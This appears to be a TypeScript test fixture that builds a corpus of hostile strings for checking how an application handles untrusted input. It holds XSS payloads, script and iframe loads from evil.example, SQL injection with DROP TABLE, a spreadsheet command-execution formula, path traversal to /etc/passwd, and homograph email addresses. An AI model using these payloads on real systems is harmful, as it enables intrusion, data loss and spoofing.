/**
 * Hostile text for every field a page, a file or a user can fill: hand-written classics in named
 * categories, then generated combinations of them. Every payload that could run tries to set
 * `window.__pwned` (or open a dialog), so a test only has to look at one canary.
 */
export type HostileCategory =
  | 'script injection'
  | 'markup injection'
  | 'event handler'
  | 'javascript: URL'
  | 'CSS injection'
  | 'right-to-left override'
  | 'zero-width'
  | 'long'
  | 'lone surrogate'
  | 'emoji'
  | 'NUL and control'
  | 'template and formula'
  | 'combined';

export interface HostileString {
  category: HostileCategory;
  value: string;
}

const PWN = 'window.__pwned=1';

const CLASSICS: Record<Exclude<HostileCategory, 'combined'>, string[]> = {
  'script injection': [
    `<script>${PWN}</script>`,
    `"><script>${PWN}</script>`,
    `'><script>${PWN}</script>`,
    `</title><script>${PWN}</script>`,
    `</textarea><script>${PWN}</script>`,
    `</style><script>${PWN}</script>`,
    `<scr<script>ipt>${PWN}</scr</script>ipt>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<script type="module">${PWN}</script>`,
    `<svg><script>${PWN}</script></svg>`,
    `<math><mtext><script>${PWN}</script></mtext></math>`,
    `<!--<script>${PWN}</script>-->`,
    `<![CDATA[<script>${PWN}</script>]]>`,
    `<noscript><p title="</noscript><script>${PWN}</script>">`,
    `\\u003cscript\\u003e${PWN}\\u003c/script\\u003e`,
    `&lt;script&gt;${PWN}&lt;/script&gt;`,
  ],
  'markup injection': [
    '<b>bold</b>',
    '<i>Ana</i> <u>Ruiz</u>',
    '<h1>Big</h1>',
    '<marquee>moving</marquee>',
    '<table><tr><td>cell</td></tr></table>',
    '<div style="position:fixed;inset:0;background:red">cover</div>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="q"></form>',
    '<template><img src=x></template>',
    '<plaintext>',
    '<xmp><b>x</b></xmp>',
    '<!--',
    '-->',
    '</div></div></div></body></html>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  ],
  'event handler': [
    `<img src=x onerror="${PWN}">`,
    `<img src=x onerror=${PWN}>`,
    `<svg onload=${PWN}>`,
    `<svg/onload=${PWN}>`,
    `<body onload=${PWN}>`,
    `<details open ontoggle=${PWN}>`,
    `<input autofocus onfocus=${PWN}>`,
    `<video><source onerror=${PWN}></video>`,
    `<audio src=x onerror=${PWN}>`,
    `<marquee onstart=${PWN}>`,
    `" onmouseover="${PWN}" x="`,
    `' onfocus='${PWN}' autofocus='`,
    `<a onclick="${PWN}">click</a>`,
    `<div onpointerenter=${PWN}>hover</div>`,
    `<select autofocus onfocus=${PWN}>`,
    `<img src=x onerror=alert(1)>`,
    `<img src=x onerror=confirm(1)>`,
    `<img src=x onerror=prompt(1)>`,
  ],
  'javascript: URL': [
    `javascript:${PWN}`,
    `JaVaScRiPt:${PWN}`,
    `javascript&colon;${PWN}`,
    `java\tscript:${PWN}`,
    ` javascript:${PWN}`,
    `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN}`,
    `<a href="javascript:${PWN}">link</a>`,
    `<a href="data:text/html,<script>${PWN}</script>">data</a>`,
    `<iframe src="javascript:${PWN}">`,
    `vbscript:msgbox(1)`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
    `<form><button formaction="javascript:${PWN}">go</button></form>`,
  ],
  'CSS injection': [
    '</style><style>*{display:none!important}</style>',
    '<style>body{visibility:hidden}</style>',
    'x;}body{background:url(https://evil.example/x)}',
    'expression(alert(1))',
    'url(javascript:alert(1))',
    '@import url(https://evil.example/x.css);',
    '<div style="width:100000px;height:100000px">wide</div>',
    '<span style="font-size:500px">huge</span>',
    'color:red;position:fixed;top:0;left:0;width:100vw;height:100vh',
    '\\3c script\\3e',
    '<svg><style>{}*{animation:x}</style></svg>',
    '";background-image:url(x);"',
  ],
  'right-to-left override': [
    '\u202Egnp.exe',
    'Ana \u202ERuiz\u202C',
    '\u202Dforced LTR\u202C',
    '\u2066isolate\u2069',
    '\u2067rtl isolate\u2069',
    '\u2068first strong\u2069',
    '\u200Fמרקוס\u200E',
    'ممم\u202Ettt',
    '\u202E\u202E\u202E\u202E\u202E',
    'northwind\u202Emoc.',
    'عربي English עברית',
    '\u061C\u200F\u200E',
  ],
  'zero-width': [
    'Ana\u200BRuiz',
    '\u200B',
    '\u200C\u200D',
    '\uFEFFAna',
    'A\u2060n\u2060a',
    'North\u200Dwind',
    '\u200B\u200B\u200B\u200B\u200B\u200B\u200B\u200B',
    '<scr\u200Bipt>x</scr\u200Bipt>',
    'java\u200Bscript:x',
    '\u180E\u2061\u2062\u2063\u2064',
  ],
  long: [
    'A'.repeat(100_000),
    '<b>'.repeat(33_333) + 'x',
    '\u202E'.repeat(100_000),
    'Ana Ruiz '.repeat(11_111) + 'x',
    'x'.repeat(2_001),
    'y'.repeat(1_001),
    '😀'.repeat(50_000),
    'W'.repeat(10_000),
  ],
  'lone surrogate': ['\uD800', '\uDFFF', 'Ana\uD83DRuiz', '\uDC00\uD800', 'x\uDBFF', 'a\uD800b\uDC00c'],
  emoji: [
    '👩‍👩‍👧‍👦',
    '🏳️‍🌈',
    '🇺🇦🇪🇺',
    '👍🏽',
    '🧑🏿‍💻 Dev',
    'Z̵̛̤͇̹̓͊a̸͉̔l̶̙̈g̷͍̈́o̴̰̚',
    '🔥'.repeat(40),
    '𝕬𝖓𝖆 𝕽𝖚𝖎𝖟',
    '\u{1F600}\u{FE0F}\u{20E3}',
    '🦄🌈💩',
  ],
  'NUL and control': [
    '\u0000',
    'Ana\u0000Ruiz',
    '<scr\u0000ipt>x</script>',
    'a\u0001b\u0007c\u001Bd',
    'line\nbreak',
    'cr\rreturn\r\n',
    'tab\there',
    '\u2028\u2029',
    '\u007F\u0085\u009F',
    '\u0000'.repeat(64),
  ],
  'template and formula': [
    '${alert(1)}',
    '{{constructor.constructor("window.__pwned=1")()}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '%s%s%s%n',
    "' OR 1=1 --",
    '"; DROP TABLE accounts; --',
    '=HYPERLINK("https://evil.example/","click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    '{"__proto__":{"polluted":1}}',
    '"},{"x":"',
    'null',
    'undefined',
    'NaN',
    '../../../../etc/passwd',
    'C:\\Windows\\System32',
  ],
};

/** Wrappers that move a payload into the middle of ordinary text, or disguise it. */
const WRAPPERS: Array<(payload: string) => string> = [
  (p) => `Ana ${p} Ruiz`,
  (p) => `Re: ${p}`,
  (p) => `\u202E${p}\u202C`,
  (p) => [...p].join('\u200B'),
];
/** Payloads worth disguising: the ones that could run or restyle. */
const COMBINED_FROM: HostileCategory[] = ['script injection', 'event handler', 'javascript: URL', 'CSS injection'];

function buildCorpus(): HostileString[] {
  const all: HostileString[] = Object.entries(CLASSICS).flatMap(([category, values]) =>
    values.map((value) => ({ category: category as HostileCategory, value })),
  );
  for (const category of COMBINED_FROM) {
    for (const value of CLASSICS[category as Exclude<HostileCategory, 'combined'>]) {
      for (const wrap of WRAPPERS) all.push({ category: 'combined', value: wrap(value) });
    }
  }
  const seen = new Set<string>();
  return all.filter((h) => !seen.has(h.value) && (seen.add(h.value), true));
}

export const HOSTILE_STRINGS: readonly HostileString[] = buildCorpus();

/**
 * Hostile addresses that are still address-shaped, so the adapters and the database treat them as
 * addresses: odd local parts, IDN and look-alike domains, hidden characters. `stored` is the form the
 * database keeps (lowercase, NFC, the domain in ASCII); null where matching must refuse the address.
 */
export const HOSTILE_ADDRESSES: ReadonlyArray<{ value: string; stored: string | null }> = [
  { value: 'Ana.Ruiz+<b>deal</b>@Northwind.com', stored: null },
  { value: "o'brien+javascript:x@northwind.com", stored: null },
  { value: 'ana+{{7*7}}@northwind.com', stored: 'ana+{{7*7}}@northwind.com' },
  { value: 'ana+$x{alert(1)}@northwind.com', stored: null },
  { value: 'ANA%0D%0ABCC:x@northwind.com', stored: null },
  { value: 'ana@bücher.example', stored: 'ana@xn--bcher-kva.example' },
  { value: 'ana@xn--80ak6aa92e.com', stored: 'ana@xn--80ak6aa92e.com' },
  { value: 'ana@аррӏе.com', stored: 'ana@xn--80ak6aa92e.com' },
  { value: 'ana@пример.рф', stored: 'ana@xn--e1afmkfd.xn--p1ai' },
  { value: 'ana@northwınd.com', stored: 'ana@xn--northwnd-ykb.com' },
  { value: 'josé.núñez@northwind.com', stored: 'josé.núñez@northwind.com' },
  { value: 'Jose\u0301@northwind.com', stored: 'josé@northwind.com' },
  { value: '👩‍💻@northwind.com', stored: '👩‍💻@northwind.com' },
  { value: 'ana\u200B@northwind.com', stored: 'ana\u200B@northwind.com' },
  { value: '\u202Eana@northwind.com', stored: '\u202Eana@northwind.com' },
  { value: 'ana@northwind.com\u200B', stored: 'ana@northwind.com' },
  { value: 'ana\u0000@northwind.com', stored: 'ana\u0000@northwind.com' },
  { value: 'a'.repeat(64) + '@northwind.com', stored: 'a'.repeat(64) + '@northwind.com' },
  { value: 'a'.repeat(65) + '@northwind.com', stored: null },
  { value: 'ana@' + 'sub.'.repeat(70) + 'northwind.com', stored: null },
  { value: '"<script>x</script>"@northwind.com', stored: null },
  { value: 'javascript:alert(1)//@northwind.com', stored: null },
  { value: 'ana@northwind.com<script>', stored: null },
  { value: 'mailto:ANA@NORTHWIND.COM', stored: 'ana@northwind.com' },
];
